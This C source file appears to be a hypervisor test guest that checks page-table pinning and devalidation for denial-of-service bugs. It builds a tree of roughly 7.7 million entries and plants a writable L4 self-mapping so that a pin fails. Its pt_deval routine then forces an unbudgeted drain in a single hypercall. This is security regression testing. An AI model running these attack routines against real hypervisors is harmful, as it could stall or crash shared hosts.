/*
 * attack_pt.c - attack=pt_tree of the attack guest (attack.c): the
 * page-table tree finding. One L4 -> one L3 -> L2s -> mb MiB of L1
 * tables (default 59), each L1 with 512 present entries (read-only
 * mappings of one data frame), built with MMUEXT_COPY_PAGE from
 * templates in the image. Rounds: pin the L4 (validates ~7.7 million
 * entries), unpin it; one round with a bad entry in the very last L1
 * (a writable mapping of the L4 itself) must fail and give every
 * reference back (every L1 frame is writable again); the last pin is
 * left in place, so the domain's destroy has the whole tree to release.
 * The hv must answer all of it in bounded steps: dom0's heartbeat keeps
 * going (the scenario checks the gaps) and the watchdog never fires.
 * Must never: touch a frame that is not this domain's.
 */
#include <stdint.h>
#include <xenolith/lib.h>
#include <xen/errno.h>
#include <xlguest/hypercall.h>
#include <xlguest/check.h>
#include <xlguest/kernel.h>
#include <xlguest/time.h>
#include "attack.h"

static uint64_t pvclock_ns(void)
{
    return pvclock_read(&guest_shared_info->vcpu_info[0].time);
}

#define MAX_L1   (60u * 256u)
#define MAX_L2   ((MAX_L1 + 511u) / 512u)
#define BATCH    128

static uint64_t tmpl_l1[512] __attribute__((aligned(4096)));
static uint64_t tmpl[512] __attribute__((aligned(4096)));
static uint64_t l1s[MAX_L1];
static uint64_t l2s[MAX_L2];
static uint64_t l3, l4, data;
static unsigned int nl1, nl2;
static struct mmuext_op ops[BATCH];

/* COPY_PAGE src into each of dst[0, n), batched. 0 or the first error. */
static long copy_into(const uint64_t *dst, unsigned int n, uint64_t src)
{
    for (unsigned int i = 0; i < n;) {
        unsigned int k = 0;
        for (; k < BATCH && i + k < n; k++) {
            ops[k] = (struct mmuext_op){ .cmd = MMUEXT_COPY_PAGE };
            ops[k].arg1.mfn = dst[i + k];
            ops[k].arg2.src_mfn = src;
        }
        unsigned int done = 0;
        long rc = HYPERVISOR_mmuext_op(ops, k, &done, DOMID_SELF);
        if (rc || done != k) {
            printk("attack: pt_tree: COPY_PAGE batch at %u: rc %ld, done %u of %u\n", i, rc,
                   done, k);
            return rc ? rc : -1;
        }
        i += k;
    }
    return 0;
}

/* Pick the tree's frames at the top of the domain's memory, far above
 * the bootstrap mapping (the image, its tables and the padding after
 * them stay mapped writable): mb MiB of L1s (at most MAX_L1), their L2s,
 * one L3, one L4 and the data frame every L1 entry maps. 0 if the
 * domain has too few pages. */
static int plan_tree(start_info_t *si, unsigned int mb, const char *name)
{
    const uint64_t *p2m = (const uint64_t *)si->mfn_list;
    uint64_t boot_end = ((si->pt_base - GUEST_VIRT_BASE) >> 12) + si->nr_pt_frames + 1024;
    nl1 = mb * 256u;
    if (nl1 > MAX_L1)
        nl1 = MAX_L1;
    nl2 = (nl1 + 511u) / 512u;
    uint64_t need = nl1 + nl2 + 3;
    if (boot_end + need > si->nr_pages) {
        printk("attack: %s: %lu pages, need %lu after pfn %lu\n", name,
               (unsigned long)si->nr_pages, (unsigned long)need, (unsigned long)boot_end);
        return 0;
    }
    uint64_t pfn = si->nr_pages - need;
    data = p2m[pfn++];
    l4 = p2m[pfn++];
    l3 = p2m[pfn++];
    for (unsigned int j = 0; j < nl2; j++)
        l2s[j] = p2m[pfn++];
    for (unsigned int i = 0; i < nl1; i++)
        l1s[i] = p2m[pfn++];
    for (unsigned int k = 0; k < 512; k++)
        tmpl_l1[k] = (data << 12) | PTE_P | PTE_US | PTE_A;
    return 1;
}

static long build(void)
{
    long rc = copy_into(l1s, nl1, mfn_of(tmpl_l1));
    for (unsigned int j = 0; !rc && j < nl2; j++) {
        memset(tmpl, 0, sizeof(tmpl));
        for (unsigned int k = 0; k < 512 && j * 512 + k < nl1; k++)
            tmpl[k] = (l1s[j * 512 + k] << 12) | PTE_P | PTE_RW | PTE_US | PTE_A;
        rc = copy_into(&l2s[j], 1, mfn_of(tmpl));
    }
    if (!rc) {
        memset(tmpl, 0, sizeof(tmpl));
        for (unsigned int j = 0; j < nl2; j++)
            tmpl[j] = (l2s[j] << 12) | PTE_P | PTE_RW | PTE_US | PTE_A;
        rc = copy_into(&l3, 1, mfn_of(tmpl));
    }
    if (!rc) {
        memset(tmpl, 0, sizeof(tmpl));
        tmpl[0] = (l3 << 12) | PTE_P | PTE_RW | PTE_US | PTE_A;
        rc = copy_into(&l4, 1, mfn_of(tmpl));
    }
    return rc;
}

static long timed(unsigned int cmd, const char *what, unsigned int round)
{
    uint64_t t0 = pvclock_ns();
    long rc = mmuext1(cmd, l4);
    printk("attack: pt_tree %s %u: rc %ld, %lu ms\n", what, round, rc,
           (unsigned long)((pvclock_ns() - t0) / 1000000ULL));
    return rc;
}

void attack_pt_tree(start_info_t *si, unsigned int mb, unsigned int rounds, int *passed,
                    int *failed)
{
    if (!plan_tree(si, mb, "pt_tree")) {
        check_true("pt_tree: enough memory", 0);
        *passed += check_passed, *failed += check_failed;
        return;
    }
    printk("attack: pt_tree: %u L1 tables (%u MiB), %u L2, 1 L3, 1 L4: %u present L1 entries\n",
           nl1, nl1 / 256u, nl2, nl1 * 512u);
    check_eq("pt_tree: build the tree -> 0", build(), 0);
    for (unsigned int r = 0; r < rounds; r++) {
        check_eq("pt_tree: pin the L4 -> 0", timed(MMUEXT_PIN_L4_TABLE, "pin", r), 0);
        check_eq("pt_tree: unpin the L4 -> 0", timed(MMUEXT_UNPIN_TABLE, "unpin", r), 0);
        check_eq("pt_tree: every L1 writable again (COPY_PAGE) -> 0",
                 copy_into(l1s, nl1, mfn_of(tmpl_l1)), 0);
    }
    /* The last entry of the last L1: a writable mapping of the L4 being
     * validated. The pin fails there, after everything else was taken. */
    memcpy(tmpl, tmpl_l1, sizeof(tmpl));
    tmpl[511] = (l4 << 12) | PTE_P | PTE_RW | PTE_US | PTE_A;
    check_eq("pt_tree: bad last L1 -> 0", copy_into(&l1s[nl1 - 1], 1, mfn_of(tmpl)), 0);
    check_true("pt_tree: pin with a bad last entry fails",
               timed(MMUEXT_PIN_L4_TABLE, "bad pin", 0) < 0);
    check_eq("pt_tree: after the failed pin every L1 writable (COPY_PAGE) -> 0",
             copy_into(l1s, nl1, mfn_of(tmpl_l1)), 0);
    check_eq("pt_tree: the L4 writable (COPY_PAGE) -> 0", copy_into(&l4, 1, mfn_of(tmpl)) == 0 &&
             build() == 0 ? 0 : -1, 0);
    /* Left pinned: the destroy releases it. */
    check_eq("pt_tree: final pin -> 0", timed(MMUEXT_PIN_L4_TABLE, "final pin", rounds), 0);
    *passed += check_passed;
    *failed += check_failed;
}

/* attack=pt_deval: the failed pin leaves its chain queued for
 * devalidation (PGF_deval, type_count 0) and mmuext_op returns the error
 * without draining the queue. An unbudgeted hypercall
 * (update_va_mapping, no mm_preempt_begin) then asks for a writable
 * mapping of the L3: get_page_type drops the L3's entries at once
 * (deval_entries(mfn, 0)), each L2 reaching type_count 0 is queued by
 * deval_enqueue, which - with no budget - drains the domain's whole queue
 * in one go (BUG_ON(mm_deval_drain(d) != 0)): every L1 of the tree, ~7.7
 * million entries, in one hypercall. Expected on a fixed hv: bounded
 * (the hypercall returns, dom0 beats, no watchdog panic). */
static uint8_t scratch[4096] __attribute__((aligned(4096)));

void attack_pt_deval(start_info_t *si, unsigned int mb, int *passed, int *failed)
{
    if (!plan_tree(si, mb, "pt_deval")) {
        check_true("pt_deval: enough memory", 0);
        *passed += check_passed, *failed += check_failed;
        return;
    }
    printk("attack: pt_deval: %u L1 tables, %u L2\n", nl1, nl2);
    check_eq("pt_deval: build the tree -> 0", build(), 0);
    memcpy(tmpl, tmpl_l1, sizeof(tmpl));
    tmpl[511] = (l4 << 12) | PTE_P | PTE_RW | PTE_US | PTE_A;
    check_eq("pt_deval: bad last L1 -> 0", copy_into(&l1s[nl1 - 1], 1, mfn_of(tmpl)), 0);
    check_true("pt_deval: pin with a bad last entry fails",
               timed(MMUEXT_PIN_L4_TABLE, "bad pin", 0) < 0);
    /* No mmu_update/mmuext_op now (they drain first, on a budget). */
    uint64_t t0 = pvclock_ns();
    long rc = HYPERVISOR_update_va_mapping((unsigned long)scratch,
                                           (l3 << 12) | PTE_P | PTE_RW | PTE_US | PTE_A, 2);
    printk("attack: pt_deval: update_va_mapping(L3 writable): rc %ld, %lu ms\n", rc,
           (unsigned long)((pvclock_ns() - t0) / 1000000ULL));
    check_eq("pt_deval: L3 writable after the failed pin -> 0", rc, 0);
    rc = HYPERVISOR_update_va_mapping((unsigned long)scratch,
                                      (mfn_of(scratch) << 12) | PTE_P | PTE_RW | PTE_US | PTE_A, 2);
    check_eq("pt_deval: scratch back -> 0", rc, 0);
    *passed += check_passed;
    *failed += check_failed;
}
